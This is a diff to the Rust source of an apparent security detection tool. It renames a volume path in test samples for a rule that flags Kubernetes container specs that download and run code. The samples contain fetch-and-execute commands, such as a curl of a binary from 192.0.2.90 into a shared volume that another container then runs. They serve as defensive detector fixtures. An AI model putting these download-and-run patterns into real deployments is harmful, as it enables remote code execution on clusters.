@@ -8,8 +8,7 @@ use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
 use crate::detect::code;
 use crate::detect::findings::Collector;
-pub(in crate::detect) use crate::detect::flow::is_downloader;
-use crate::detect::flow::{At, Kind, Ran, Reached, fetches, prints_fetched};
+use crate::detect::flow::{At, Kind, Ran, Reached, fetches, is_downloader, prints_fetched};
 use crate::normalize::Invocation;
 use crate::normalize::exec::is_shell;
 
@@ -340,7 +339,7 @@ pub(super) static RULES: &[Rule] = &[
             ),
             Sample::Hit(
                 45,
-                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
+                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
             ),
             Sample::Hit(
                 45,
@@ -376,7 +375,7 @@ pub(super) static RULES: &[Rule] = &[
                 "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
             ),
             Sample::Miss(
-                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
+                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -so /data/a.gz https://x.test/a.gz; gunzip /data/a.gz; /app/import /data/a']}]",
